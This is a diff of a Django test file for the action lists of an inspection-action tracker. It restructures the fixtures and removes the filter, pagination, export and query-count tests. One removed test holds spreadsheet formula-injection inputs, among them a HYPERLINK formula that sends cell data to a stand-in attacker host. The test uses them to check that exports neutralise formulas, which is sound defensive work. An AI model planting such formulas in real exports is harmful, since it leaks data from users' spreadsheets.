@@ -1,95 +1,67 @@
-"""The action lists (/actions/ and /actions/mine/): filters, pagination, and the CSV and Excel exports."""
+"""The action lists (/actions/ and /actions/mine/) over five actions that differ in every filtered field:
+filters, search, bad input, my actions, and the page itself."""
 
-import csv
-import datetime
-import io
+import copy
 import re
 
 import pytest
-from django.db import connection
-from django.test.utils import CaptureQueriesContext
-from django.utils import timezone
-from openpyxl import load_workbook
+from django.test import override_settings
 
 from tests import factories
-from tracker.exports import HEADER
-from tracker.models import Action, ExtensionRequest, SignOff
+from tests.action_lists import S, csv_rows, day, get_export, listed, make_action
+from tests.shared_data import written_once
 
-S = Action.Status
-TRAITS = factories.STATUS_TRAITS
-
-
-def day(offset: int) -> datetime.date:
-    """A date relative to the real today, which is what the views use."""
-    return timezone.localdate() + datetime.timedelta(days=offset)
+# Built once, the five actions stay until the module's last test: every test here sees them.
+pytestmark = pytest.mark.usefixtures("five_actions")
 
 
-def make_action(status=S.NOT_STARTED, due_in: int = 60, **kwargs) -> Action:
-    return factories.ActionFactory(status=status, due_date=day(due_in), **TRAITS[status], **kwargs)
-
-
-def listed(response) -> set[str]:
-    assert response.status_code == 200
-    return {action.title for action in response.context["page"]}
-
-
-def get_export(client, url: str) -> bytes:
-    response = client.get(url)
-    assert response.status_code == 200
-    return b"".join(response.streaming_content) if response.streaming else response.content
-
-
-def csv_rows(content: bytes) -> list[list[str]]:
-    assert content.startswith(b"\xef\xbb\xbf"), "CSV needs a byte order mark for Excel"
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
-
-
-def xlsx_rows(content: bytes) -> list[list]:
-    sheet = load_workbook(io.BytesIO(content), read_only=True).active
-    return [list(row) for row in sheet.iter_rows(values_only=True)]
-
-
-@pytest.fixture
-def plan(db, owner, other_owner):
-    """Five actions that differ in every filtered field."""
-    stalking_theme = factories.ThemeFactory(name="Stalking and harassment")
-    victims_theme = factories.ThemeFactory(name="Victims")
-    peel = factories.InspectionFactory(slug="peel-2016", title="PEEL effectiveness 2016")
-    crime_data = factories.InspectionFactory(slug="crime-data-2019", title="Crime data integrity 2019")
-    afi = factories.FindingFactory(
-        inspection=peel, reference="AFI3", title="Stalking investigations", theme=stalking_theme
-    )
-    concern = factories.FindingFactory(
-        inspection=crime_data,
-        cause_of_concern=True,
-        reference="CoC1",
-        title="Risk at first contact",
-        text="The force should assess risk consistently at first contact.",
-        theme=victims_theme,
-    )
-    return {
-        "afi": afi,
-        "concern": concern,
-        "stalking_theme": stalking_theme,
-        "crime_data": crime_data,
-        "owner": owner,
-        "other_owner": other_owner,
-        "not_started": make_action(title="Train call handlers", finding=afi, owner=owner, due_in=60),
-        "in_progress": make_action(
-            S.IN_PROGRESS, title="Audit stalking cases", finding=afi, owner=other_owner, due_in=5
-        ),
-        "blocked": make_action(S.BLOCKED, title="Replace risk tool", finding=concern, owner=owner, due_in=-3),
-        "signed_off": make_action(
-            S.SIGNED_OFF, title="Publish the policy", finding=concern, owner=other_owner, due_in=-30
-        ),
-        "withdrawn": make_action(S.WITHDRAWN, title="Old plan", finding=afi, owner=owner, due_in=-40),
-    }
+@pytest.fixture(scope="module")
+def five_actions(django_db_setup, django_db_blocker):
+    """Five actions that differ in every filtered field, written once for the module."""
+    # The real password hasher is slow on purpose; the users made here need none of its strength.
+    with written_once(django_db_blocker):
+        with override_settings(PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"]):
+            owner = factories.OwnerFactory(username="owner")
+            other_owner = factories.OwnerFactory(username="other-owner")
+            stalking_theme = factories.ThemeFactory(name="Stalking and harassment")
+            victims_theme = factories.ThemeFactory(name="Victims")
+            peel = factories.InspectionFactory(slug="peel-2016", title="PEEL effectiveness 2016")
+            crime_data = factories.InspectionFactory(slug="crime-data-2019", title="Crime data integrity 2019")
+            afi = factories.FindingFactory(
+                inspection=peel, reference="AFI3", title="Stalking investigations", theme=stalking_theme
+            )
+            concern = factories.FindingFactory(
+                inspection=crime_data,
+                cause_of_concern=True,
+                reference="CoC1",
+                title="Risk at first contact",
+                text="The force should assess risk consistently at first contact.",
+                theme=victims_theme,
+            )
+            actions = {
+                "afi": afi,
+                "concern": concern,
+                "stalking_theme": stalking_theme,
+                "crime_data": crime_data,
+                "owner": owner,
+                "other_owner": other_owner,
+                "not_started": make_action(title="Train call handlers", finding=afi, owner=owner, due_in=60),
+                "in_progress": make_action(
+                    S.IN_PROGRESS, title="Audit stalking cases", finding=afi, owner=other_owner, due_in=5
+                ),
+                "blocked": make_action(S.BLOCKED, title="Replace risk tool", finding=concern, owner=owner, due_in=-3),
+                "signed_off": make_action(
+                    S.SIGNED_OFF, title="Publish the policy", finding=concern, owner=other_owner, due_in=-30
+                ),
+                "withdrawn": make_action(S.WITHDRAWN, title="Old plan", finding=afi, owner=owner, due_in=-40),
+            }
+        yield actions
 
 
 @pytest.fixture
-def signed_in(client, lead):
-    client.force_login(lead)
-    return client
+def plan(db, five_actions):
+    """The five actions: each test gets its own copy, and whatever it changes in the database is rolled back."""
+    return copy.deepcopy(five_actions)
 
 
 def test_list_requires_sign_in(client, db):
@@ -176,63 +148,6 @@ def test_search_finds_owner_and_description(signed_in, plan):
     assert listed(signed_in.get("/actions/", {"q": "quarter"})) == {"Review MAPPA referrals"}
 
 
-# RAG in SQL must agree with Action.rag() -------------------------------------------------
-
-DUE_OFFSETS = [-30, -1, 0, 1, 13, 14, 15, 60]
-
-
-@pytest.mark.parametrize("due_in", DUE_OFFSETS)
-@pytest.mark.parametrize("status", list(S))
-def test_rag_filter_matches_the_model(signed_in, status, due_in):
-    action = make_action(status, due_in=due_in)
-    expected = action.rag(timezone.localdate())
-
-    for rag in ["red", "amber", "green", "complete"]:
-        titles = listed(signed_in.get("/actions/", {"rag": rag}))
-        assert (action.title in titles) == (rag == expected), f"{status} due in {due_in} days: rag={rag}"
-
-
-def test_rag_follows_the_due_soon_setting(signed_in, settings):
-    settings.TRACKER_DUE_SOON_DAYS = 30
-    make_action(title="Due in three weeks", due_in=21)
-
-    assert listed(signed_in.get("/actions/", {"rag": "amber"})) == {"Due in three weeks"}
-
-
-# Filters the dashboards link to ------------------------------------------------------------
-
-
-def test_returned_lists_actions_whose_latest_decision_is_a_return(signed_in, reviewer, lead):
-    returned = make_action(S.IN_PROGRESS, title="Returned once")
-    factories.SignOffFactory(action=returned, decision=SignOff.Decision.RETURN, comment="No evidence of training")
-    resubmitted = make_action(S.SUBMITTED, title="Returned then resubmitted")
-    factories.SignOffFactory(action=resubmitted, decision=SignOff.Decision.RETURN, comment="Add the audit")
-    make_action(S.IN_PROGRESS, title="Never submitted")
-
-    response = signed_in.get("/actions/?returned=1")
-
-    assert listed(response) == {"Returned once"}
-    assert "returned by the PCC&#x27;s office" in response.content.decode()
-    assert '<input type="hidden" name="returned" value="1">' in response.content.decode()
-
-
-def test_drifting_and_pending_extension_filters(signed_in, lead):
-    drifting = make_action(S.IN_PROGRESS, title="Extended twice")
-    for _ in range(2):
-        factories.ExtensionRequestFactory(
-            action=drifting, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
-        )
-    waiting = make_action(S.IN_PROGRESS, title="Waiting for more time")
-    factories.ExtensionRequestFactory(action=waiting)
-    done = make_action(S.SIGNED_OFF, title="Extended but signed off")
-    factories.ExtensionRequestFactory(
-        action=done, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
-    )
-
-    assert listed(signed_in.get("/actions/?drifting=1")) == {"Extended twice"}
-    assert listed(signed_in.get("/actions/?pending_extension=1")) == {"Waiting for more time"}
-
-
 # Bad input --------------------------------------------------------------------------------
 
 
@@ -278,133 +193,6 @@ def test_export_with_a_bad_filter_still_exports(signed_in, plan):
     rows = csv_rows(get_export(signed_in, "/actions/?due_from=notadate&status=blocked&format=csv"))
 
     assert [row[5] for row in rows[1:]] == ["Replace risk tool"]
-
-
-# Pagination -------------------------------------------------------------------------------
-
-
-def test_pagination_keeps_the_filters(signed_in, db):
-    factories.ActionFactory.create_batch(55, in_progress=True, due_date=day(30), finding=factories.FindingFactory())
-    factories.ActionFactory.create_batch(3, due_date=day(30), finding=factories.FindingFactory())
-
-    first = signed_in.get("/actions/?status=in_progress")
-    html = first.content.decode()
-    assert len(first.context["page"]) == 50
-    assert "55 actions" in html
-    assert "Page 1 of 2" in html
-    next_link = re.search(r'href="\?([^"]*)" rel="next"', html).group(1).replace("&amp;", "&")
-    assert next_link == "status=in_progress&page=2"
-
-    second = signed_in.get(f"/actions/?{next_link}")
-    html = second.content.decode()
-    assert len(second.context["page"]) == 5
-    assert all(action.status == S.IN_PROGRESS for action in second.context["page"])
-    assert "Page 2 of 2" in html
-    assert 'href="?status=in_progress&amp;page=1" rel="prev"' in html
-    assert 'href="?status=in_progress&amp;format=csv"' in html
-
-
-# Exports ----------------------------------------------------------------------------------
-
-
-@pytest.fixture
-def export_plan(db, lead):
-    """55 open actions (more than one page) and 3 signed off, one of them with history worth exporting."""
-    theme = factories.ThemeFactory(name="Offender management")
-    finding = factories.FindingFactory(
-        reference="AFI5", theme=theme, inspection=factories.InspectionFactory(title="PEEL 2016")
-    )
-    owner = factories.OwnerFactory(username="dci", first_name="Sam", last_name="Hughes")
-    actions = factories.ActionFactory.create_batch(55, in_progress=True, due_date=day(30), finding=finding, owner=owner)
-    factories.ActionFactory.create_batch(3, signed_off=True, due_date=day(-5), finding=finding, owner=owner)
-    drifted = actions[0]
-    drifted.original_due_date = day(-20)
-    drifted.save()
-    for _ in range(2):
-        factories.ExtensionRequestFactory(
-            action=drifted, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
-        )
-    factories.ExtensionRequestFactory(
-        action=drifted, status=ExtensionRequest.Status.REFUSED, decided_by=lead, decided_at=timezone.now()
-    )
-    return {"drifted": drifted, "open_pks": {action.pk for action in actions}}
-
-
-def test_csv_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
-    response = signed_in.get("/actions/?status=in_progress&format=csv")
-    rows = csv_rows(b"".join(response.streaming_content))
-
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.csv"'
-    assert rows[0] == HEADER
-    assert {int(row[0]) for row in rows[1:]} == export_plan["open_pks"]
-    drifted = export_plan["drifted"]
-    row = next(row for row in rows if row[0] == str(drifted.pk))
-    assert row == [
-        str(drifted.pk),
-        "PEEL 2016",
-        "AFI5",
-        "Area for improvement",
-        "Offender management",
-        drifted.title,
-        "Sam Hughes",
-        "In progress",
-        "Green",
-        day(30).isoformat(),
-        day(-20).isoformat(),
-        "2",
-        f"/actions/{drifted.pk}/",
-    ]
-
-
-def test_xlsx_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
-    response = signed_in.get("/actions/?status=in_progress&format=xlsx")
-    rows = xlsx_rows(response.content)
-
-    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.xlsx"'
-    assert rows[0] == HEADER
-    assert {row[0] for row in rows[1:]} == export_plan["open_pks"]
-    drifted = export_plan["drifted"]
-    row = next(row for row in rows if row[0] == drifted.pk)
-    assert row[1:9] == ["PEEL 2016", "AFI5", "Area for improvement", "Offender management", drifted.title,
-                        "Sam Hughes", "In progress", "Green"]  # fmt: skip
-    assert row[9].date() == day(30)
-    assert row[10].date() == day(-20)
-    assert row[11:] == [2, f"/actions/{drifted.pk}/"]
-
-
-def test_mine_exports_only_my_actions(client, export_plan, owner):
-    make_action(title="Mine", owner=owner)
-    client.force_login(owner)
-
-    rows = csv_rows(get_export(client, "/actions/mine/?format=csv"))
-
-    assert [row[5] for row in rows[1:]] == ["Mine"]
-
-
-DANGEROUS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]
-
-
-@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_exports_neutralise_formulas(signed_in, db, export_format):
-    owner = factories.OwnerFactory(username="formula", first_name="=cmd", last_name="")
-    finding = factories.FindingFactory(reference="-AFI1")
-    for title in DANGEROUS:
-        make_action(title=title, owner=owner, finding=finding)
-    make_action(title="A plain title", owner=owner, finding=finding)
-
-    content = get_export(signed_in, f"/actions/?format={export_format}")
-    rows = csv_rows(content) if export_format == "csv" else xlsx_rows(content)
-
-    # XML turns a carriage return into a line feed when the workbook is read back.
-    expected = [f"'{title}" if export_format == "csv" else f"'{title}".replace("\r", "\n") for title in DANGEROUS]
-    assert sorted(row[5] for row in rows[1:]) == sorted(["A plain title", *expected])
-    assert {row[6] for row in rows[1:]} == {"'=cmd"}
-    assert {row[2] for row in rows[1:]} == {"'-AFI1"}
-    if export_format == "xlsx":
-        sheet = load_workbook(io.BytesIO(content)).active
-        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
 
 def test_unknown_format_shows_the_list(signed_in, plan):
@@ -456,66 +244,6 @@ def test_empty_result_says_so(signed_in, plan):
 
     assert "0 actions" in html
     assert "No actions match these filters" in html
-
-
-# Query counts -----------------------------------------------------------------------------
-
-
-def build_actions(count: int, *, mine) -> None:
-    """Most actions with their own owner, finding and inspection, so that a missing select_related shows."""
-    lead = factories.LeadFactory()
-    for number in range(count):
-        owner = {"owner": mine} if number % 4 == 0 else {}
-        action = make_action(list(S)[number % len(S)], due_in=number - 10, created_by=lead, **owner)
-        if number % 3 == 0:
-            factories.ExtensionRequestFactory(
-                action=action, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
-            )
-
-
-def queries_for(client, url: str) -> int:
-    with CaptureQueriesContext(connection) as queries:
-        get_export(client, url)  # reads a streamed response to the end, inside the context
-    return len(queries)
-
-
-LIST_URLS = [
-    "/actions/",
-    "/actions/?q=action&status=in_progress&status=blocked&rag=red&kind=area_for_improvement&overdue=on",
-    "/actions/?drifting=1",
-    "/actions/?returned=1&pending_extension=1",
-    "/actions/mine/",
-    "/actions/?format=csv",
-    "/actions/?format=xlsx",
-    "/actions/?status=in_progress&format=csv",
-]
-
-
-@pytest.mark.parametrize("url", LIST_URLS)
-def test_query_count_does_not_grow_with_actions(signed_in, lead, url):
-    build_actions(5, mine=lead)
-    small = queries_for(signed_in, url)
-    build_actions(45, mine=lead)
-    assert Action.objects.count() == 50
-
-    assert queries_for(signed_in, url) == small
-
-
-def test_list_query_count_is_pinned(signed_in, lead, django_assert_num_queries):
-    build_actions(5, mine=lead)
-    # session, user, the user's permissions, its groups' permissions, the count, the page of actions,
-    # the owner, inspection and theme choices in the filter form, and the session saved again
-    # (savepoint, update, release) to push back its idle expiry.
-    with django_assert_num_queries(12):
-        signed_in.get("/actions/")
-
-
-def test_export_query_count_is_pinned(signed_in, lead, django_assert_num_queries):
-    build_actions(5, mine=lead)
-    # session, user, the user's permissions, its groups' permissions, the actions with their drift,
-    # and the session saved again (savepoint, update, release) to push back its idle expiry.
-    with django_assert_num_queries(8):
-        get_export(signed_in, "/actions/?format=csv")
 
 
 def test_the_owner_and_inspection_menus_offer_everyone_and_keep_the_choice(signed_in, plan):
